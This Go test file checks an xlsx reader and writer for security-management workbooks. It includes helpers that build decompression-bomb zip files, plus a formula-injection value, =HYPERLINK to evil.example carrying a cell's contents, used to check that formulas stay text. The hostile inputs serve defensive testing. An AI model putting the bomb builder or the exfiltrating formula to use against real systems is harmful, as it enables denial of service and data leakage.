package xlsx

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"io"
	"os"
	"runtime"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"github.com/ismskit/ismskit"
)

// zeros returns a deflate stream of n MiB of zero bytes, built without
// compressing them all: one flushed MiB, then the same back-references
// to the zeros before, repeated.
func zeros(t testing.TB, n int) []byte {
	var b bytes.Buffer
	w, err := flate.NewWriter(&b, flate.BestCompression)
	require.NoError(t, err)
	mib := make([]byte, 1<<20)
	_, _ = w.Write(mib)
	require.NoError(t, w.Flush())
	first := len(b.Bytes())
	_, _ = w.Write(mib)
	require.NoError(t, w.Flush())
	more := bytes.Clone(b.Bytes()[first:])
	out := bytes.Clone(b.Bytes()[:first])
	for range n - 1 {
		out = append(out, more...)
	}
	b.Reset()
	require.NoError(t, w.Close()) // the final, empty block
	return append(out, b.Bytes()...)
}

// withPart returns the workbook wb with its part name replaced by a raw
// deflate stream that unzips to size bytes but declares declared bytes.
func withPart(t testing.TB, wb []byte, name string, stream []byte, declared uint64) []byte {
	zr, err := zip.NewReader(bytes.NewReader(wb), int64(len(wb)))
	require.NoError(t, err)
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	for _, f := range zr.File {
		if f.Name == name {
			w, err := zw.CreateRaw(&zip.FileHeader{Name: name, Method: zip.Deflate,
				CompressedSize64: uint64(len(stream)), UncompressedSize64: declared})
			require.NoError(t, err)
			_, err = w.Write(stream)
			require.NoError(t, err)
			continue
		}
		require.NoError(t, zw.Copy(f))
	}
	require.NoError(t, zw.Close())
	return out.Bytes()
}

// allocated returns the bytes f allocates.
func allocated(f func()) uint64 {
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	f()
	runtime.ReadMemStats(&after)
	return after.TotalAlloc - before.TotalAlloc
}

// TestDecompressionBomb: a workbook of about a megabyte whose sheet
// unzips to a gigabyte is refused from the zip's directory, with
// ErrTooLarge, before anything is inflated.
func TestDecompressionBomb(t *testing.T) {
	good, err := Encode(testSoA(t))
	require.NoError(t, err)
	const gib = 1024
	bomb := withPart(t, good, "xl/worksheets/sheet1.xml", zeros(t, gib), gib<<20)
	assert.Less(t, len(bomb), 2<<20, "a small file")

	var derr error
	n := allocated(func() { _, derr = Decode(bomb) })
	require.Error(t, derr)
	assert.ErrorIs(t, derr, ismskit.ErrTooLarge)
	assert.Contains(t, derr.Error(), "unzips to more than the limit of 8388608 bytes")
	assert.Less(t, n, uint64(4<<20), "bounded memory: %d bytes allocated", n)

	_, err = Read(bytes.NewReader(bomb))
	assert.ErrorIs(t, err, ismskit.ErrTooLarge)
}

// TestLyingBomb: a part that declares a small size but inflates hugely is
// stopped at its declared size by archive/zip, and is an error.
func TestLyingBomb(t *testing.T) {
	good, err := Encode(testSoA(t))
	require.NoError(t, err)
	bomb := withPart(t, good, "xl/worksheets/sheet1.xml", zeros(t, 256), 1000)
	var derr error
	n := allocated(func() { _, derr = Decode(bomb) })
	require.Error(t, derr)
	assert.ErrorIs(t, derr, ismskit.ErrSyntax)
	assert.Contains(t, derr.Error(), `part "xl/worksheets/sheet1.xml"`)
	assert.Less(t, n, uint64(4<<20), "bounded memory: %d bytes allocated", n)
}

func TestDecodeLimits(t *testing.T) {
	good, err := Encode(testSoA(t))
	require.NoError(t, err)
	tests := []struct {
		name string
		opts []ismskit.DecodeOption
		kind error
		msg  string
	}{
		{"default", nil, nil, ""},
		{"file over the limit", []ismskit.DecodeOption{ismskit.MaxBytes(10_000)}, ismskit.ErrTooLarge, "input longer than the limit of 10000 bytes"},
		{"unzipped over the limit", []ismskit.DecodeOption{ismskit.MaxBytes(50_000)}, ismskit.ErrTooLarge, "unzips to more than the limit of 50000 bytes"},
		{"no limit", []ismskit.DecodeOption{ismskit.MaxBytes(-1)}, nil, ""},
		{"problems limit", []ismskit.DecodeOption{ismskit.MaxProblems(5)}, nil, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Decode(good, tt.opts...)
			_, rerr := Read(bytes.NewReader(good), tt.opts...)
			if tt.kind == nil {
				assert.NoError(t, err)
				assert.NoError(t, rerr)
				return
			}
			assert.ErrorIs(t, err, tt.kind)
			assert.ErrorContains(t, err, tt.msg)
			assert.ErrorIs(t, rerr, tt.kind)
		})
	}

	// MaxProblems bounds the report.
	f, err := excelize.OpenReader(bytes.NewReader(good))
	require.NoError(t, err)
	for r := 2; r <= 40; r++ {
		cell, _ := excelize.CoordinatesToCellName(7, r)
		require.NoError(t, f.SetCellStr(SheetSoA, cell, "done"))
	}
	var buf bytes.Buffer
	require.NoError(t, f.Write(&buf))
	_, err = Decode(buf.Bytes(), ismskit.MaxProblems(5))
	assert.Len(t, ismskit.Problems(err), 6, "five problems and the count of the rest")
	assert.ErrorIs(t, err, ismskit.ErrMoreProblems)
}

// TestNoTemporaryFiles: a sheet larger than excelize's in-memory default
// (16 MiB) is read in memory all the same.
func TestNoTemporaryFiles(t *testing.T) {
	dir := t.TempDir()
	t.Setenv("TMPDIR", dir)
	good, err := Encode(testSoA(t))
	require.NoError(t, err)
	zr, err := zip.NewReader(bytes.NewReader(good), int64(len(good)))
	require.NoError(t, err)
	var sheet []byte
	for _, f := range zr.File {
		if f.Name == "xl/worksheets/sheet1.xml" {
			rc, err := f.Open()
			require.NoError(t, err)
			sheet, err = io.ReadAll(rc)
			require.NoError(t, err)
		}
	}
	padded := strings.Replace(string(sheet), "</worksheet>", strings.Repeat(" ", 17<<20)+"</worksheet>", 1)
	var z bytes.Buffer
	w, err := flate.NewWriter(&z, flate.BestSpeed)
	require.NoError(t, err)
	_, _ = w.Write([]byte(padded))
	require.NoError(t, w.Close())
	big := withPart(t, good, "xl/worksheets/sheet1.xml", z.Bytes(), uint64(len(padded)))

	s, err := Decode(big, ismskit.MaxBytes(64<<20))
	require.NoError(t, err)
	assert.Len(t, s.Entries, 93)
	left, err := os.ReadDir(dir)
	require.NoError(t, err)
	assert.Empty(t, left, "no temporary file")
}

func TestWideRowsStop(t *testing.T) {
	good, err := Encode(testSoA(t))
	require.NoError(t, err)
	f, err := excelize.OpenReader(bytes.NewReader(good))
	require.NoError(t, err)
	require.NoError(t, f.SetCellStr(SheetSoA, "XFD3", "far away"))
	var buf bytes.Buffer
	require.NoError(t, f.Write(&buf))
	_, err = Decode(buf.Bytes())
	assert.ErrorIs(t, err, ismskit.ErrSyntax)
	assert.ErrorContains(t, err, "SoA: row 3 has 16384 cells, want at most 15")
}

func TestFormulasStayText(t *testing.T) {
	s := testSoA(t)
	s.Entries[3].Implementation = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	s.Entries[4].Owner = "+1"
	b, err := Encode(s)
	require.NoError(t, err)
	f, err := excelize.OpenReader(bytes.NewReader(b))
	require.NoError(t, err)
	for _, cell := range []string{"J5", "H6"} {
		formula, err := f.GetCellFormula(SheetSoA, cell)
		require.NoError(t, err)
		assert.Empty(t, formula, cell)
		typ, err := f.GetCellType(SheetSoA, cell)
		require.NoError(t, err)
		assert.NotEqual(t, excelize.CellTypeFormula, typ, cell)
	}
	back, err := Decode(b)
	require.NoError(t, err)
	assert.Equal(t, s.Entries, back.Entries)
}

func TestNilArguments(t *testing.T) {
	assert.ErrorIs(t, Write(nil, testSoA(t)), ismskit.ErrMissing)
	_, err := Read(nil)
	assert.ErrorIs(t, err, ismskit.ErrMissing)
	_, err = Decode(nil)
	assert.ErrorIs(t, err, ismskit.ErrSyntax)
}
